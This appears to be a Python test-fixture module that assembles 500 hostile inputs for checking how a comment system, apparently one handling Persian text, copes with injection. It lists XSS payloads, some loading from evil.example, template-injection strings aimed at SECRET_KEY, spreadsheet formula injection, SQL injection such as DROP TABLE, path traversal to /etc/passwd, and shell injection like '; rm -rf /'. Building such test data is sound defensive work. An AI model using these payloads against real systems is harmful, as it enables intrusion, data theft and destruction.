"""Five hundred texts that want to be something else than text: markup, code, formulas, tricks with letters."""

from itertools import product

_ALERT = "alert(1)"
_ELEMENTS = [
    f"<script>{_ALERT}</script>", f"<ScRiPt\n>{_ALERT}</sCrIpT >",
    "<script src=//evil.example/x.js></script>", f"<img src=x onerror={_ALERT}>",
    f"<img src='x' onerror='{_ALERT}'/>", f"<IMG SRC=x OnErRoR={_ALERT}//", f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>", f"<svg/onload={_ALERT}//",
    f"<svg><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_ALERT}'>x</a>",
    f"<math><mtext></p><img src=x onerror={_ALERT}></mtext></math>",
    f"<math href=javascript:{_ALERT}>x</math>", f"<body onload={_ALERT}>",
    f"<iframe srcdoc='<script>{_ALERT}</script>'>", f"<iframe src=javascript:{_ALERT}>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<embed src=javascript:alert(1)>",
    f"<details open ontoggle={_ALERT}>x", f"<input autofocus onfocus={_ALERT}>",
    f"<select autofocus onfocus={_ALERT}>", f"<video><source onerror={_ALERT}>",
    f"<audio src=x onerror={_ALERT}>", f"<marquee onstart={_ALERT}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<form action=javascript:{_ALERT}><button>x</button></form>",
    "<button formaction=//evil.example>x</button>", f"<a href='javascript:{_ALERT}'>x</a>",
    "<a href=//evil.example>پیوند</a>", "<h1>خبر فوری</h1>", "<b>x", "<!-- ", "--> x", "<!DOCTYPE html>",
    "<![CDATA[x]]>", "<?php echo 1 ?>", "<template><p>x</template>", "<slot name=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><p>x", "<listing>",
    "<table><tr><td>x", "<dialog open>x</dialog>", "<bdo dir=rtl>x</bdo>", f"<x-element onclick={_ALERT}>",
]  # fmt: skip
_BREAKERS = [
    "</p>", "</textarea>", "</script>", "</title>", "</style>", "</bdi>", "</article></main></body></html>",
    "\">", "'>", "-->", "]]>", "</noscript>", "</li></ol>", "</template>", "</option></select>",
]  # fmt: skip
_TEMPLATES = [
    "{{ settings.SECRET_KEY }}", "{{ request.user }}", "{% debug %}", "{% include 'x' %}", "{{ 7*7 }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{# x #}", "{% load x %}",
    "%(name)s", "%s %d", "%n%n%n", "{0.__class__}", "{comment.author}", "{{", "{%", "%", "{{ comment.code }}",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "**درشت**", "# سرتیتر", "> نقل",
    "- فهرست", "`code`", "```js\nalert(1)\n```", "[x]: javascript:alert(1)", "<https://evil.example>",
    "[url=//evil.example]x[/url]", "https://evil.example/?a=1&b=2", "www.evil.example",
    "mailto:x@evil.example", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "//evil.example",
]  # fmt: skip
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&amp;lt;", "&nbsp;", "&zwnj;",
    "&rlm;", "&#0;", "&#x202e;x", "&quot; onclick=alert(1)", "&apos;", "&", "&amp", "&notanentity;", "&copy",
    "&#xD800;", "&#99999999;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-",
    "＜script＞alert(1)＜/script＞", "‹b›", "\\74b\\76",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"//evil.example\",\"x\")", "＝1+1", "＋1", "－1", "＠x", " =1+1", "'=1+1", "''=1", "\n=1+1",
    "=IMPORTXML(\"//evil.example\")", "+989121234567", "-5 درجه", "@mahtab", "#N/A", "#REF!", "=۱+۱", "|cmd",
    ";=1", "\"=1+1\"", "',=1+1", "\",=1+1,\"", "\n\"x\",=1", "a\n=1+1",
]  # fmt: skip
_DATABASES = [
    "'; DROP TABLE comments_comment; --", "' OR '1'='1", "\" OR 1=1 --", "1; SELECT pg_sleep(10)",
    "') UNION SELECT 1 --", "\\'; x", "$$x$$", "%' AND 1=1", "_%_%", "NULL", "undefined", "None", "true", "0",
    "-1", "1e309", "NaN", "Infinity", "{\"$gt\": \"\"}", "*)(uid=*", "../../../etc/passwd", "C:\\x\\y",
    "`id`", "$(id)", "; rm -rf /", "| ls",
]  # fmt: skip
_BREAKS_OF_DATA = [
    "\"", "\"\"", "'", "''", "\\", "\\\\", "\\\"", "\"}", "\"}]}", "{\"message\": \"x\"}", "],[", "a,b",
    "a;b", "a\tb", "a\n\nb", "a\r\nb", "a\u2028b", "a\u2029b", "a\x85b", "\"a\nb\"",
    "</script><script>alert(1)</script>", "*/alert(1)/*", "//", "\n\n\n..", "a\x0bb", "a\x0cb",
    "Subject: x\r\nBcc: x@evil.example", "\r\nSet-Cookie: x=1", "=?utf-8?q?x?=", ".\r\nQUIT",
]  # fmt: skip
_INVISIBLE = [
    "علی\u202eیلع", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u2068abc\u2069\u2069",
    "\u200eabc\u200f", "\ufeffabc", "a\u200bb", "a\u00adb", "a\u2060b", "a\u180eb", "می\u200cروم",
    "\u200c\u200c\u200cab", "a\u034fb", "\u061cabc", "a\x07b", "a\x1b[31mb", "a\x00b", "\x00\x00ab", "a\x08b",
    "a\x7fb", "a\ud800b", "\udfffab", "a\ufffeb", "a\uffffb", "\U000e0041\U000e0042ab", "a\ufff9b\ufffbc",
    "a\u3164b", "\u115f\u1160ab", "ab\U0001f468\u200d\U0001f469\u200d\U0001f467",
]  # fmt: skip
_LETTERS = [
    "a" * 60, "ب" * 60, "a" + "\u0301" * 50, "ب" + "\u064b" * 50,
    "Z\u0351\u036b\u0343\u034bA\u0310\u0301\u036cL\u0300\u0312G\u0346\u0342O", "سرکنسولگری", "ســرکنسولگری",
    "س‌ر‌ک‌ن‌س‌و‌ل", "سركنسولگري", "ﺳﺮﮐﻨﺴﻮﻟﮕﺮی", "аdmin", "ａｄｍｉｎ", "𝐚𝐝𝐦𝐢𝐧", "ⓐⓓⓜⓘⓝ", "аԁmіn", "Ｓｔａｆｆ",
    "W" * 60, "﷽" * 20, "🏴" * 30, "👨‍👩‍👧‍👦" * 5, "¯\\_(ツ)_/¯", "ᚠᛇᚻ", "田中さん", "Ω≈ç√∫", "１２３", "½⅓", "𒐫𒐫",
    "꧁x꧂", "x" + "\u20dd" * 10, "ﷺ سلام",
]  # fmt: skip
_LONG = [
    "a" * 2_000, "ب" * 2_000, "a " * 999 + "a", "<b>" * 600, "&amp;" * 400, "\n" * 500 + "ab",
    "ab" + "‌" * 500 + "cd", "\"" * 2_000, "{{" * 900, "🌷" * 2_000, "https://evil.example/" + "x" * 1_900,
    "a\u0301" * 900,
]  # fmt: skip


_SINGLE = (
    _ELEMENTS, _TEMPLATES, _MARKDOWN, _ENTITIES, _FORMULAS, _DATABASES, _BREAKS_OF_DATA, _INVISIBLE, _LETTERS,
    _LONG, _BREAKERS,
)  # fmt: skip


def _all() -> list[str]:
    single = [text for kind in _SINGLE for text in kind]
    # An element that has first to come out of the place where the text stands.
    escapes = [breaker + element for breaker, element in product(_BREAKERS, _ELEMENTS[:18])]
    different = dict.fromkeys(text if len(text.strip()) > 1 else text * 2 for text in single + escapes)
    return list(different)[:500]


HOSTILE = _all()
